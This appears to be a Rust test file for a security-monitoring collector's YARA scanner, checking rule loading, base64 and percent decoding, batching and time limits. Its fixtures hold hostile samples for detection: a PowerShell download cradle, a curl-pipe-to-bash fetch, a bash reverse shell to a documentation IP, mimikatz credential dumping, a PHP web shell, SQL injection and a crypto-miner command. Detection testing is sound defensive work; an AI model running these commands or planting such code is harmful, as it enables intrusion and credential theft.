use std::path::{Path, PathBuf};

use base64::Engine as _;
use citysoc_collector::{parse_record, Event, InputFormat, ParseContext};

use super::*;
use crate::{Alert, AlertKind, Level};
use serde_json::Value;

const RULES_DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara");

fn event(line: &str, format: InputFormat) -> Event {
    let mut context = ParseContext::new("test");
    context.agency = Some("quan-1".into());
    parse_record(line.as_bytes(), format, &context, 1)
}

fn city_rules() -> YaraRuleSet {
    let (rules, problems) =
        YaraRuleSet::load(&[PathBuf::from(RULES_DIR)]).unwrap_or_else(|error| panic!("{error}"));
    let errors: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert!(errors.is_empty(), "{errors:?}");
    rules
}

fn rules_from(source: &str) -> YaraRuleSet {
    let (rules, problems) = YaraRuleSet::from_sources(&[("test.yar", source)]);
    assert!(
        problems.iter().all(|problem| problem.warning),
        "{problems:?}"
    );
    rules
}

fn utf16_base64(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn alert_ids(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|alert| alert.rule_id.as_str()).collect()
}

#[test]
fn every_city_rule_compiles_with_id_description_level_and_attack_tags() {
    let rules = city_rules();
    assert!(rules.len() >= 10, "only {} rules", rules.len());
    let files = std::fs::read_dir(RULES_DIR)
        .map(|entries| entries.count())
        .unwrap_or_default();
    assert_eq!(rules.files().len(), files, "every file in rules/yara loads");
    let mut ids = std::collections::BTreeSet::new();
    for info in rules.rules() {
        assert!(info.rule_id.starts_with("citysoc-yara-"), "{info:?}");
        assert!(
            ids.insert(info.rule_id.clone()),
            "duplicate id {}",
            info.rule_id
        );
        assert_ne!(
            info.title,
            info.qualified_name.split(':').nth(1).unwrap_or_default(),
            "{} has no description",
            info.rule_id
        );
        assert!(
            info.tags.iter().any(|tag| tag.starts_with("attack.t")),
            "{} has no ATT&CK technique",
            info.rule_id
        );
        assert!(info.level >= Level::Medium, "{info:?}");
    }
}

#[test]
fn a_file_that_does_not_compile_is_reported_and_the_others_load() {
    let good = r#"rule good_one { meta: id = "x-good" strings: $a = "needle" condition: $a }"#;
    let bad = "rule broken {\n  strings:\n    $a = \"x\"\n  condition:\n    $a and $missing\n}\n";
    let syntax = "rule no_brace { condition: true ";
    let also_good = r#"rule good_two { strings: $a = "pin" condition: $a }"#;
    let (rules, problems) = YaraRuleSet::from_sources(&[
        ("a.yar", good),
        ("bad.yar", bad),
        ("syntax.yar", syntax),
        ("z.yar", also_good),
    ]);
    let errors: Vec<&RuleLoadProblem> =
        problems.iter().filter(|problem| !problem.warning).collect();
    assert_eq!(errors.len(), 2, "{problems:?}");
    let bad_problem = errors
        .iter()
        .find(|problem| problem.path == Path::new("bad.yar"))
        .unwrap_or_else(|| panic!("{problems:?}"));
    // yara-x's code and the position: file, line and column.
    assert!(
        bad_problem.message.contains("error[E"),
        "{}",
        bad_problem.message
    );
    assert!(
        bad_problem.message.contains("bad.yar:5:12"),
        "{}",
        bad_problem.message
    );
    assert!(
        bad_problem.message.contains("$missing"),
        "{}",
        bad_problem.message
    );
    assert!(errors
        .iter()
        .any(|problem| problem.path == Path::new("syntax.yar")));
    assert_eq!(rules.len(), 2);
    assert_eq!(
        rules.files(),
        [PathBuf::from("a.yar"), PathBuf::from("z.yar")]
    );
    // Defaults when meta is missing: namespace:name, title = name, medium.
    let info = rules
        .rule_info("z", "good_two")
        .unwrap_or_else(|| panic!("good_two missing"));
    assert_eq!(info.rule_id, "z:good_two");
    assert_eq!(info.title, "good_two");
    assert_eq!(info.level, Level::Medium);
    assert_eq!(
        rules
            .rule_info("a", "good_one")
            .map(|info| info.rule_id.as_str()),
        Some("x-good")
    );
}

#[test]
fn load_walks_directories_and_reports_unreadable_paths() {
    let directory = std::env::temp_dir().join(format!("citysoc-yara-load-{}", std::process::id()));
    let nested = directory.join("nested");
    std::fs::create_dir_all(&nested).unwrap_or_else(|error| panic!("{error}"));
    let write = |path: PathBuf, text: &str| {
        std::fs::write(path, text).unwrap_or_else(|error| panic!("{error}"))
    };
    write(
        directory.join("one.yar"),
        "rule one { strings: $a = \"one\" condition: $a }",
    );
    write(
        nested.join("one.YARA"),
        "rule one { strings: $a = \"uno\" condition: $a }",
    );
    write(nested.join("notes.txt"), "not a rule");
    write(nested.join("broken.yar"), "rule {");
    let (rules, problems) = YaraRuleSet::load(std::slice::from_ref(&directory))
        .unwrap_or_else(|error| panic!("{error}"));
    // Same rule name in two files is fine: each file is its own namespace.
    assert_eq!(rules.len(), 2, "{problems:?}");
    assert_eq!(
        problems.iter().filter(|problem| !problem.warning).count(),
        1
    );
    assert!(YaraRuleSet::load(&[directory.join("missing")]).is_err());
    let _ = std::fs::remove_dir_all(&directory);
}

#[test]
fn encoded_powershell_is_decoded_and_scanned() {
    let rules = city_rules();
    let mut scanner = YaraScanner::new(&rules, &YaraConfig::default());
    let payload =
        utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
    let line = format!(
        r#"{{"EventID":4688,"Channel":"Security","Hostname":"SRV-MC-02","NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -nop -w hidden -enc {payload}","SubjectUserName":"svc_motcua"}}"#
    );
    let alerts = scanner.scan_event(&event(&line, InputFormat::Auto));
    let cradle = alerts
        .iter()
        .find(|alert| alert.rule_id == "citysoc-yara-powershell-download-cradle")
        .unwrap_or_else(|| panic!("no cradle alert in {:?}", alert_ids(&alerts)));
    assert_eq!(cradle.kind, AlertKind::Yara);
    assert_eq!(cradle.level, Level::High);
    assert_eq!(
        cradle.details.get("decoded"),
        Some(&serde_json::json!(true))
    );
    assert_eq!(
        cradle.details.get("decoding"),
        Some(&serde_json::json!("base64-utf16le"))
    );
    assert!(cradle.tags.contains(&"attack.t1059.001".to_owned()));
    assert_eq!(cradle.agency.as_deref(), Some("quan-1"));
    let strings = cradle
        .details
        .get("strings")
        .and_then(|value| value.as_array())
        .cloned()
        .unwrap_or_default();
    assert_eq!(
        strings.first().and_then(|string| string.get("id")),
        Some(&serde_json::json!("$iex_webclient"))
    );
    assert_eq!(
        strings.first().and_then(|string| string.get("offset")),
        Some(&serde_json::json!(0))
    );
    // The encoded command itself is flagged on the command line, not decoded.
    let encoded = alerts
        .iter()
        .find(|alert| alert.rule_id == "citysoc-yara-powershell-encoded-command");
    assert_eq!(
        encoded.and_then(|alert| alert.details.get("decoded")),
        Some(&serde_json::json!(false))
    );
    assert_eq!(
        scanner.stats().decoded_scanned,
        1,
        "the run in raw and in CommandLine is decoded once"
    );

    // Without decoding, the cradle stays hidden.
    let config = YaraConfig {
        decode_base64: false,
        ..YaraConfig::default()
    };
    let mut plain = YaraScanner::new(&rules, &config);
    let alerts = plain.scan_event(&event(&line, InputFormat::Auto));
    assert!(
        !alert_ids(&alerts).contains(&"citysoc-yara-powershell-download-cradle"),
        "{:?}",
        alert_ids(&alerts)
    );
}

#[test]
fn url_targets_are_scanned_percent_decoded() {
    let rules = city_rules();
    let mut scanner = YaraScanner::new(&rules, &YaraConfig::default());
    let line = r#"198.51.100.99 - - [22/Nov/2026:08:10:03 +0700] "GET /a?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users-- HTTP/1.1" 500 312 "-" "curl/8""#;
    let alerts = scanner.scan_event(&event(line, InputFormat::Access));
    assert_eq!(alert_ids(&alerts), ["citysoc-yara-sqli-payload"]);
    let details = &alerts
        .first()
        .map(|alert| alert.details.clone())
        .unwrap_or_default();
    assert_eq!(
        details.get("target"),
        Some(&serde_json::json!("url.original"))
    );
    assert_eq!(details.get("decoding"), Some(&serde_json::json!("percent")));
}

#[test]
fn one_alert_per_rule_with_at_most_ten_strings_and_no_matched_data() {
    let rules = rules_from(
        r#"rule many { meta: id = "t-many" level = "low" strings: $a = "secret" condition: $a }"#,
    );
    let mut scanner = YaraScanner::new(&rules, &YaraConfig::default());
    let message = "secret ".repeat(40);
    let json = format!(r#"{{"message":"{message}","CommandLine":"cmd /c echo secret\"quoted\""}}"#);
    let alerts = scanner.scan_event(&event(&json, InputFormat::Json));
    assert_eq!(alerts.len(), 1);
    let alert = alerts.first().unwrap_or_else(|| panic!("no alert"));
    assert_eq!(alert.level, Level::Low);
    let strings = alert
        .details
        .get("strings")
        .and_then(|value| value.as_array())
        .cloned()
        .unwrap_or_default();
    assert_eq!(strings.len(), 10);
    assert!(
        !serde_json::to_string(&strings)
            .unwrap_or_default()
            .contains("secret"),
        "matched data must not be copied"
    );
    assert_eq!(alert.details.get("target"), Some(&serde_json::json!("raw")));
    // CommandLine differs from raw (JSON escapes) so it was scanned and matched too; message
    // appears verbatim in raw and was skipped.
    assert_eq!(
        alert.details.get("other_targets"),
        Some(&serde_json::json!(["CommandLine"]))
    );
    assert_eq!(scanner.stats().skipped_inside_raw, 1);
    assert_eq!(scanner.stats().alerts, 1);
}

#[test]
fn size_limit_cuts_targets_and_is_counted() {
    let rules = rules_from(r#"rule tail { strings: $a = "needle" condition: $a }"#);
    let config = YaraConfig {
        max_scan_bytes: 64,
        targets: vec!["raw".into()],
        ..YaraConfig::default()
    };
    let mut scanner = YaraScanner::new(&rules, &config);
    let late = format!("<13>Nov 22 08:00:00 host app: {} needle", "x".repeat(200));
    assert!(
        scanner
            .scan_event(&event(&late, InputFormat::Auto))
            .is_empty(),
        "the needle is past the limit"
    );
    let early = format!("<13>Nov 22 08:00:00 host app: needle {}", "x".repeat(200));
    let alerts = scanner.scan_event(&event(&early, InputFormat::Auto));
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts
            .first()
            .and_then(|alert| alert.details.get("truncated")),
        Some(&serde_json::json!(true))
    );
    let stats = scanner.stats();
    assert_eq!(stats.truncated, 2);
    assert_eq!(stats.bytes_scanned, 128);
    assert_eq!(stats.targets_scanned, 2);
}

#[test]
fn base64_attachments_are_scanned_decoded() {
    let rules = city_rules();
    let mut scanner = YaraScanner::new(&rules, &YaraConfig::default());
    let content =
        base64::engine::general_purpose::STANDARD.encode("<?php\n  system($_GET['c']);\n?>\n");
    // Agents may wrap long base64 at 76 columns.
    let wrapped = format!(
        "{}\\n{}",
        content.get(..20).unwrap_or_default(),
        content.get(20..).unwrap_or_default()
    );
    let line = format!(
        r#"{{"hostname":"web-02","path":"/var/www/x.php","file_content_base64":"{wrapped}"}}"#
    );
    let alerts = scanner.scan_event(&event(&line, InputFormat::Json));
    assert_eq!(alert_ids(&alerts), ["citysoc-yara-webshell-php-command"]);
    assert_eq!(
        alerts.first().and_then(|alert| alert.details.get("target")),
        Some(&serde_json::json!("file_content_base64"))
    );
}

#[test]
fn timeout_is_applied_and_a_timed_out_scan_is_counted() {
    // A condition that loops over every byte pair of a megabyte never finishes in a second.
    let rules = rules_from(
        r#"import "math"
        rule slow { condition: for all i in (0..filesize) : ( for all j in (0..filesize) : ( uint8(i) != 0xff or uint8(j) != 0xfe ) ) }"#,
    );
    let config = YaraConfig {
        timeout_secs: 1,
        targets: vec!["raw".into()],
        ..YaraConfig::default()
    };
    let mut scanner = YaraScanner::new(&rules, &config);
    let line = format!("<13>Nov 22 08:00:00 host app: {}", "a".repeat(1_000_000));
    let started = std::time::Instant::now();
    let alerts = scanner.scan_event(&event(&line, InputFormat::Auto));
    assert!(alerts.is_empty());
    assert_eq!(scanner.stats().timeouts, 1);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn config_rejects_unknown_keys_and_fills_defaults() {
    let config: YaraConfig = serde_json::from_str(r#"{"targets":["raw"],"timeout_secs":2}"#)
        .unwrap_or_else(|error| panic!("{error}"));
    assert_eq!(config.max_scan_bytes, 1024 * 1024);
    assert!(config.decode_base64);
    assert_eq!(config.timeout_secs, 2);
    assert!(serde_json::from_str::<YaraConfig>(r#"{"targetz":["raw"]}"#).is_err());
}

#[test]
fn odd_events_never_panic() {
    let rules = city_rules();
    let mut scanner = YaraScanner::new(&rules, &YaraConfig::default());
    let samples: [&[u8]; 6] = [
        b"",
        b"\xff\xfe\x00",
        b"{\"file_content_base64\":\"%%%\"}",
        b"{\"CommandLine\":\"powershell -enc\"}",
        b"{\"url\":{\"original\":\"%\"}}",
        b"{\"CommandLine\":[\"a\",1,null]}",
    ];
    for sample in samples {
        let context = ParseContext::new("test");
        let event = parse_record(sample, InputFormat::Auto, &context, 1);
        let _ = scanner.scan_event(&event);
    }
    assert_eq!(scanner.stats().events, 6);
    assert_eq!(scanner.stats().errors, 0);
}

#[test]
fn prefilter_gives_the_alerts_of_scanning_each_target_alone() {
    // Prefiltered rules (positive pattern conditions) next to rules that must see each target
    // alone: a negation, a filesize bound, an anchored regexp, an offset.
    let prefiltered = r#"
        rule two_words { meta: id = "p-two" strings: $a = "alpha" $b = "omega" condition: $a and $b }
        rule word_edge { meta: id = "p-edge" strings: $a = "beta" fullword condition: $a }
        rule counted { meta: id = "p-count" strings: $a = "gamma" condition: #a >= 2 }"#;
    let per_target = r#"
        rule without { meta: id = "t-without" strings: $a = "delta" $b = "alpha" condition: $a and not $b }
        rule small { meta: id = "t-small" strings: $a = "eps" condition: $a and filesize < 40 }
        rule starts { meta: id = "t-starts" strings: $a = /^<13>/ condition: $a }
        rule first { meta: id = "t-first" strings: $a = "zeta" condition: $a at 0 }"#;
    let (rules, problems) =
        YaraRuleSet::from_sources(&[("pre.yar", prefiltered), ("alone.yar", per_target)]);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(rules.per_target_rules(), 4);
    let lines = [
        "<13>Nov 22 08:00:00 host app: alpha then omega",
        "<13>Nov 22 08:00:01 host app: alpha",
        "<13>Nov 22 08:00:02 host app: omega delta",
        "<13>Nov 22 08:00:03 host app: betamax beta",
        "<13>Nov 22 08:00:04 host app: gamma",
        "<13>Nov 22 08:00:05 host app: gamma gamma",
        "<13>Nov 22 08:00:06 host app: delta alpha",
        "<13>Nov 22 08:00:07 h eps",
        "<13>Nov 22 08:00:08 host app: eps and a long tail of text",
        "zeta at the start",
        "{\"message\":\"x\",\"CommandLine\":\"alpha \\\"omega\\\"\"}",
    ];
    let (expected, stats) = batched_equals_alone(&rules, &lines);
    let ids: Vec<&str> = alert_ids(&expected);
    assert_eq!(
        ids,
        [
            "p-two",
            "t-starts",
            "t-starts",
            "t-without",
            "t-starts",
            "p-edge",
            "t-starts",
            "t-starts",
            "p-count",
            "t-starts",
            "t-starts",
            "t-small",
            "t-starts",
            "t-starts",
            "t-first",
            "p-two"
        ]
    );
    assert_eq!(stats.batch_scans, 1);
    assert_eq!(stats.batch_fallbacks, 0);
    // One scan of each target with the per-target rules, plus rescans of the candidates only.
    assert!(stats.single_scans < 2 * stats.targets_scanned, "{stats:?}");
}

#[test]
fn many_events_make_several_batches() {
    let rules = city_rules();
    let mut batched = YaraScanner::new(&rules, &YaraConfig::default());
    let filler = "x".repeat(3000);
    let mut events: Vec<Event> = (0..200)
        .map(|index| {
            event(
                &format!("<13>Nov 22 08:00:00 host app: {index} {filler}"),
                InputFormat::Auto,
            )
        })
        .collect();
    events.push(event(
        "<13>Nov 22 08:00:00 host app: m.exe privilege::debug sekurlsa::logonpasswords",
        InputFormat::Auto,
    ));
    let alerts = batched.scan_events(&events);
    assert_eq!(alert_ids(&alerts), ["citysoc-yara-credential-mimikatz"]);
    assert_eq!(
        alerts.first().map(|alert| alert.event_ids.clone()),
        events.last().map(|event| vec![event.id.clone()])
    );
    let stats = batched.stats();
    assert!(stats.batch_scans >= 3, "{stats:?}");
    // The one matching target is either scanned again or settled by its batch scan.
    assert_eq!(stats.single_scans + stats.batch_settled, 1, "{stats:?}");
}

/// Scans `lines` (one event each) batched and one target at a time without the prefilter, and
/// checks both give the same alerts; returns the batched scanner's stats.
fn batched_equals_alone(rules: &YaraRuleSet, lines: &[&str]) -> (Vec<Alert>, YaraStats) {
    let events: Vec<Event> = lines
        .iter()
        .map(|line| event(line, InputFormat::Auto))
        .collect();
    let alone_config = YaraConfig {
        prefilter: false,
        ..YaraConfig::default()
    };
    let mut alone = YaraScanner::new(rules, &alone_config);
    let expected: Vec<Alert> = events
        .iter()
        .flat_map(|event| alone.scan_event(event))
        .collect();
    let mut batched = YaraScanner::new(rules, &YaraConfig::default());
    assert_eq!(batched.scan_events(&events), expected);
    let mut one_by_one = YaraScanner::new(rules, &YaraConfig::default());
    let each: Vec<Alert> = events
        .iter()
        .flat_map(|event| one_by_one.scan_event(event))
        .collect();
    assert_eq!(each, expected);
    (expected, batched.stats())
}

#[test]
fn batch_settled_alerts_equal_scanning_each_target_alone() {
    // Rules the batch settles (`any of them`, one pattern, an `or` of all patterns), next to
    // ones it cannot (two matches needed, one pattern of two), in one file.
    let source = r#"
        rule spans { meta: id = "s-spans" strings: $a = /open[^)]{0,60}close/ condition: $a }
        rule space { meta: id = "s-space" strings: $a = /tail\s/ condition: $a }
        rule edge { meta: id = "s-edge" strings: $a = "word" fullword $b = /wrd/ condition: any of them }
        rule hidden { meta: id = "s-hidden" strings: $a = "secret" private $b = "visible" condition: $a or $b }
        rule many { meta: id = "s-many" strings: $a = "ab" condition: any of them }
        rule both { meta: id = "s-both" strings: $a = "left" $b = "right" condition: $a and $b }
        rule part { meta: id = "s-part" strings: $a = "pa" $b = "rt" condition: $a or #b > 1 }
        private rule quiet { strings: $a = "quiet" condition: $a }"#;
    let rules = rules_from(source);
    let lines = [
        // A match across two targets (no `)` between them) must not count for either.
        "<13>Nov 22 08:00:00 host app: open the door",
        "<13>Nov 22 08:00:01 host app: then close it",
        "<13>Nov 22 08:00:01 host app: open and close",
        // `\s` would match the separator after the target: alone there is nothing after it.
        "<13>Nov 22 08:00:02 host app: a tail",
        "<13>Nov 22 08:00:03 host app: a tail here",
        // Word edges at the target's edges.
        "word",
        "<13>Nov 22 08:00:04 host app: swordfish wrd",
        "<13>Nov 22 08:00:05 host app: wordy",
        // Private patterns count, private rules raise nothing.
        "<13>Nov 22 08:00:06 host app: secret quiet",
        "<13>Nov 22 08:00:07 host app: visible",
        // More matches than an alert reports, offsets within the target.
        "<13>Nov 22 08:00:08 host app: ab ab ab ab ab ab ab ab ab ab ab ab ab open ) close",
        // Rules the batch cannot settle, next to ones it can.
        "<13>Nov 22 08:00:09 host app: left right word",
        "<13>Nov 22 08:00:10 host app: left only",
        "<13>Nov 22 08:00:11 host app: part",
        "<13>Nov 22 08:00:12 host app: rt only and open (x) close",
        "{\"message\":\"open (a) close\",\"CommandLine\":\"tail word\"}",
    ];
    let (alerts, stats) = batched_equals_alone(&rules, &lines);
    let ids = alert_ids(&alerts);
    // Only the target holding both ends matches, not the two targets the batch joins.
    assert_eq!(ids.iter().filter(|id| **id == "s-spans").count(), 1);
    assert!(ids.contains(&"s-edge") && ids.contains(&"s-hidden") && ids.contains(&"s-many"));
    assert!(ids.contains(&"s-both") && ids.contains(&"s-part"));
    assert_eq!(stats.batch_fallbacks, 0);
    assert!(stats.batch_settled > 0, "{stats:?}");
    let many = alerts
        .iter()
        .find(|alert| alert.rule_id == "s-many")
        .and_then(|alert| alert.details.get("strings"))
        .and_then(Value::as_array)
        .map(Vec::len);
    assert_eq!(many, Some(10));
}

#[test]
fn batch_settled_city_rules_equal_scanning_each_target_alone() {
    // The city rules over a mix of benign and malicious records in one batch, the malicious
    // ones next to each other and at the batch's edges.
    let rules = city_rules();
    let mut lines = vec![
        "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        "<13>Nov 22 08:00:00 host app: curl http://203.0.113.9/x.sh | bash",
        "<13>Nov 22 08:00:01 host app: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "198.51.100.99 - - [22/Nov/2026:08:10:03 +0700] \"GET /a?id=1'%20UNION%20SELECT%20a,b%20FROM%20c-- HTTP/1.1\" 500 312 \"-\" \"sqlmap\"",
    ];
    let benign = "<30>Nov 22 08:50:00 gis-app-01 systemd[1]: Started Session 7 of user nguyenvana.";
    lines.extend(std::iter::repeat_n(benign, 20));
    lines.push("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
    lines.push("xmrig --donate-level=1 -o stratum+tcp://pool.supportxmr.com:3333");
    let (alerts, stats) = batched_equals_alone(&rules, &lines);
    assert!(alerts.len() >= 6, "{alerts:?}");
    assert!(stats.batch_settled > 0, "{stats:?}");
}

#[test]
fn alerts_stay_with_their_events_across_batches() {
    // Records of about 100 KB, so a call makes several batches (one every three events or
    // so), with matches of rules the batch settles, of rules it cannot settle and of rules
    // that must see each target alone, in the first, middle and last events of batches.
    let batched = r#"
        rule settled { meta: id = "b-settled" strings: $a = "needle" condition: $a }
        rule pair { meta: id = "b-pair" strings: $a = "left" $b = "right" condition: $a and $b }"#;
    let alone = r#"
        rule alone { meta: id = "b-alone" strings: $a = "solo" condition: $a and filesize < 200000 }"#;
    let (rules, problems) =
        YaraRuleSet::from_sources(&[("batched.yar", batched), ("alone.yar", alone)]);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(rules.per_target_rules(), 1);
    let filler = "x ".repeat(50_000);
    let words = [
        "needle",
        "plain",
        "left right",
        "solo",
        "plain",
        "needle solo",
        "plain",
        "left",
        "right",
        "needle",
        "plain",
        "left right needle",
    ];
    let lines: Vec<String> = words
        .iter()
        .enumerate()
        .map(|(index, word)| format!("<13>Nov 22 08:00:{index:02} host app: {word} {filler}"))
        .collect();
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let (alerts, stats) = batched_equals_alone(&rules, &lines);
    assert!(
        stats.batch_scans >= 3 && stats.batch_settled > 0,
        "{stats:?}"
    );
    let ids = alert_ids(&alerts);
    assert_eq!(ids.iter().filter(|id| **id == "b-settled").count(), 4);
    assert_eq!(ids.iter().filter(|id| **id == "b-pair").count(), 2);
    assert_eq!(ids.iter().filter(|id| **id == "b-alone").count(), 2);
}
